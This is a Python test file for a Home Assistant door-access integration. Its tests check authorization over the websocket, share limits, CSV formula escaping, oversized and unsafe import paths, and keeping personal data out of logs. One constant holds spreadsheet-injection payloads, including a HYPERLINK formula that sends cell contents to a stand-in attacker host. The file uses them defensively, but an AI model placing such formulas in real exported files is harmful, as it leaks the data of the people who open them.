"""A resident or a careless file attacks the building's actions rather than the door.

Each test plays one attack through Home Assistant's service layer (or its websocket, as
the frontend and the companion app call it) and checks that nothing changed, nothing
leaked and the hub answered with a translated refusal.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
import csv
import io
import logging
import os
from pathlib import Path
from typing import Any

from homeassistant.auth.models import User
from homeassistant.core import Context, HomeAssistant, ServiceCall
from homeassistant.exceptions import HomeAssistantError, ServiceValidationError
from homeassistant.helpers import issue_registry as ir
import probatio as vol
import pytest
from pytest_homeassistant_custom_component.common import CLIENT_ID, MockConfigEntry
from pytest_homeassistant_custom_component.typing import WebSocketGenerator

from custom_components.digitalkey.const import DOMAIN, OPT_NOTIFY_TARGET
from custom_components.digitalkey.notifications import Text, async_notify_person
from custom_components.digitalkey.protocol.constants import LockState
from custom_components.digitalkey.services_import import MAX_FILE_MB, MAX_ROWS
from tests.integration.conftest import Site, auto_enable_custom_integrations, loaded, site
from tests.integration.services_support import Building, async_building

__all__ = ["auto_enable_custom_integrations", "loaded", "site"]

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "@SUM(1+1)", "-2+3", "+1+1")
PHONE = "+4791234567"


@pytest.fixture
async def building(
    hass: HomeAssistant, site: Site, loaded: MockConfigEntry, hass_admin_user: User
) -> AsyncIterator[Building]:
    async for value in async_building(hass, loaded, hass_admin_user):
        yield value


async def _sharer(building: Building, share_limit: int = 1, **person: Any) -> str:
    """The resident as a person with a shareable key to the garage; their person id."""
    added = await building.call(
        "add_person",
        {"name": "Kari", "role": "owner", "ha_user_id": building.resident.id, **person},
        user=building.admin,
        response=True,
    )
    assert added
    await building.call(
        "grant_access",
        {
            "person_ids": [added["person_id"]],
            "doors": [building.lock("garage")],
            "may_share": True,
            "share_limit": share_limit,
        },
        user=building.admin,
    )
    return str(added["person_id"])


async def _users(hass: HomeAssistant, *names: str) -> list[User]:
    return [await hass.auth.async_create_user(name, group_ids=["system-users"]) for name in names]


async def test_over_the_websocket_a_resident_gets_no_door_and_no_admin_data(
    hass: HomeAssistant, building: Building, hass_ws_client: WebSocketGenerator
) -> None:
    """The frontend's `call_service` carries the connection's user; no field changes it."""
    person_id = await _sharer(building)
    refresh = await hass.auth.async_create_refresh_token(building.resident, CLIENT_ID)
    client = await hass_ws_client(hass, hass.auth.async_create_access_token(refresh))
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("lock", "unlock", {"entity_id": building.lock("entrance")}),
        (DOMAIN, "get_access", {"door": building.lock("garage")}),
        (DOMAIN, "query_events", {"person_id": person_id}),
        (DOMAIN, "export_person_data", {"person_id": person_id}),
    ]
    for domain, service, data in calls:
        await client.send_json_auto_id(
            {
                "type": "call_service",
                "domain": domain,
                "service": service,
                "service_data": data,
                "return_response": domain == DOMAIN,
            }
        )
        answer = await client.receive_json()
        assert answer["success"] is False, (service, answer)
        assert answer["error"]["translation_key"] in {"unauthorized", "denied_no_key"}, answer
    entrance = building.entry.runtime_data.doors[building.doors["entrance"]]
    snapshot = entrance.state.snapshot
    assert snapshot is None or snapshot.lock_state is not LockState.UNLOCKED


async def test_two_share_calls_at_once_stay_within_the_limit(
    hass: HomeAssistant, building: Building
) -> None:
    await _sharer(building, share_limit=1)
    first, second = await _users(hass, "Guest 1", "Guest 2")
    outcomes = await asyncio.gather(
        *(
            building.call(
                "share_key",
                {"door": building.lock("garage"), "user_id": guest.id},
                user=building.resident,
                response=True,
            )
            for guest in (first, second)
        ),
        return_exceptions=True,
    )
    refused = [outcome for outcome in outcomes if isinstance(outcome, ServiceValidationError)]
    assert [error.translation_key for error in refused] == ["access_share_limit_reached"]
    assert len(building.registry.shares) == 1


def _cells(tables: dict[str, str]) -> list[str]:
    return [
        cell for text in tables.values() for row in csv.reader(io.StringIO(text)) for cell in row
    ]


async def test_exported_csv_cells_cannot_run_as_spreadsheet_formulas(
    hass: HomeAssistant, building: Building
) -> None:
    """A resident's share label and names from an import end up in a CSV a board opens."""
    person_id = await _sharer(
        building, share_limit=len(FORMULAS), dwelling=FORMULAS[1], phone=PHONE
    )
    await building.call(
        "update_person", {"person_id": person_id, "name": FORMULAS[0]}, user=building.admin
    )
    for label, guest in zip(FORMULAS, await _users(hass, "G1", "G2", "G3", "G4"), strict=True):
        await building.call(
            "share_key",
            {"door": building.lock("garage"), "user_id": guest.id, "label": label},
            user=building.resident,
        )
    export = await building.call(
        "export_person_data", {"person_id": person_id}, user=building.admin, response=True
    )
    assert export
    cells = _cells(export["csv"])  # type: ignore[arg-type]
    dangerous = [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert not dangerous, dangerous
    # The JSON half keeps the values as they are: it is data, not a spreadsheet.
    assert export["json"]["person"][0]["name"] == FORMULAS[0]  # type: ignore[index]
    assert f"'{FORMULAS[0]}" in cells


async def test_oversized_input_is_refused_and_changes_nothing(
    hass: HomeAssistant, hass_storage: dict[str, Any], building: Building
) -> None:
    person_id = await _sharer(building)
    before = building.registry.to_dict()
    stored = building.stored(hass_storage)
    with pytest.raises(vol.Invalid):
        await building.call(
            "add_person", {"name": "x" * 10_000_000, "role": "owner"}, user=building.admin
        )
    with pytest.raises(vol.Invalid):
        await building.call(
            "grant_access",
            {"person_ids": [person_id], "doors": [f"door-{n}" for n in range(100_000)]},
            user=building.admin,
        )
    with pytest.raises(ServiceValidationError) as refused:
        await building.call(
            "import_residents",
            {
                "csv": "Leilighet;Navn\n" + "x" * (MAX_FILE_MB * 1024 * 1024),
                "entrances": {"*": building.doors["entrance"]},
            },
            user=building.admin,
            response=True,
        )
    assert refused.value.translation_key == "import_file_too_large"
    # Small enough in bytes, but more lines than the hub applies in one go on its loop.
    many = "".join(f"H{n};P{n}\n" for n in range(MAX_ROWS + 1))
    with pytest.raises(ServiceValidationError) as refused:
        await building.call(
            "import_residents",
            {"csv": "Leilighet;Navn\n" + many, "entrances": {"*": building.doors["entrance"]}},
            user=building.admin,
            response=True,
        )
    assert refused.value.translation_key == "import_too_many_rows"
    assert building.registry.to_dict() == before
    assert building.stored(hass_storage) == stored


async def _import_path(building: Building, path: str) -> ServiceValidationError:
    with pytest.raises(ServiceValidationError) as refused:
        await building.call(
            "import_residents",
            {"path": path, "entrances": {"*": building.doors["entrance"]}},
            user=building.admin,
            response=True,
        )
    return refused.value


async def test_an_import_path_to_a_pipe_or_a_growing_file_does_not_hang_the_hub(
    hass: HomeAssistant, building: Building, tmp_path: Path
) -> None:
    """A FIFO reports size 0 and would block a reader forever; a sparse file lies low."""
    outside = tmp_path / "elsewhere"
    pipe = Path(hass.config.path("residents.fifo"))
    big = Path(hass.config.path("residents_big.csv"))
    linked_dir = Path(hass.config.path("exports"))

    def prepare() -> None:
        outside.mkdir()
        (outside / "residents.csv").write_text("Leilighet;Navn\nH0101;Kari\n", encoding="utf-8")
        linked_dir.symlink_to(outside, target_is_directory=True)
        os.mkfifo(pipe)
        with big.open("wb") as file:
            file.truncate((MAX_FILE_MB + 1) * 1024 * 1024)

    def clean() -> None:
        for path in (pipe, big, linked_dir):
            path.unlink(missing_ok=True)

    await hass.async_add_executor_job(prepare)
    try:
        refused = await asyncio.wait_for(_import_path(building, pipe.name), timeout=10)
        assert refused.translation_key == "import_file_unreadable"
        refused = await _import_path(building, big.name)
        assert refused.translation_key == "import_file_too_large"
        refused = await _import_path(building, "exports/residents.csv")
        assert refused.translation_key == "import_path_outside_config"
    finally:
        await hass.async_add_executor_job(clean)


async def test_a_failing_notify_gateway_does_not_put_the_phone_number_in_the_log(
    hass: HomeAssistant, building: Building, caplog: pytest.LogCaptureFixture
) -> None:
    """Gateways name the number they could not reach; the hub's warning must not repeat it."""
    person_id = await _sharer(building, phone=PHONE, consent=True)

    async def refuse(call: ServiceCall) -> None:
        raise HomeAssistantError(f"The gateway could not reach {call.data['target']}")

    hass.services.async_register("notify", "sms", refuse)
    hass.config_entries.async_update_entry(
        building.entry, options={**building.entry.options, OPT_NOTIFY_TARGET: "notify.sms"}
    )
    caplog.set_level(logging.DEBUG)
    sent = await async_notify_person(
        hass,
        building.entry.runtime_data,
        person_id,
        Text("notify_share_used_title", {"door": "Garage"}),
        Text("notify_share_used", {"door": "Garage", "time": "12:00"}),
    )
    assert sent is False
    ours = "\n".join(
        record.getMessage()
        for record in caplog.records
        if record.name.startswith("custom_components.digitalkey")
    )
    assert "notify.sms" in ours  # the warning is there, and names the action
    assert PHONE not in ours
    assert PHONE[3:] not in ours


async def test_names_phones_and_labels_stay_out_of_logs_and_repairs(
    hass: HomeAssistant, building: Building, caplog: pytest.LogCaptureFixture
) -> None:
    """A whole life: added, given keys, shares, is refused at a door, then erased."""
    caplog.set_level(logging.DEBUG)
    name, label = "Kari Nordmann-Særheim", "Kari sin hytte-nøkkel"
    person_id = await _sharer(building, phone=PHONE, consent=True, email="kari@example.no")
    await building.call(
        "update_person", {"person_id": person_id, "name": name}, user=building.admin
    )
    (guest,) = await _users(hass, "Guest")
    await building.call(
        "share_key",
        {"door": building.lock("garage"), "user_id": guest.id, "label": label},
        user=building.resident,
    )
    with pytest.raises(ServiceValidationError):
        await hass.services.async_call(
            "lock",
            "unlock",
            {"entity_id": building.lock("entrance")},
            blocking=True,
            context=Context(user_id=building.resident.id),
        )
    await building.call("erase_person", {"person_id": person_id}, user=building.admin)
    await hass.async_block_till_done(wait_background_tasks=True)

    ours = "\n".join(
        record.getMessage()
        for record in caplog.records
        if record.name.startswith("custom_components.digitalkey")
    )
    issues = repr(ir.async_get(hass).issues)
    for secret in (name, label, PHONE, PHONE[3:], "kari@example.no"):
        assert secret not in ours, secret
        assert secret not in issues, secret
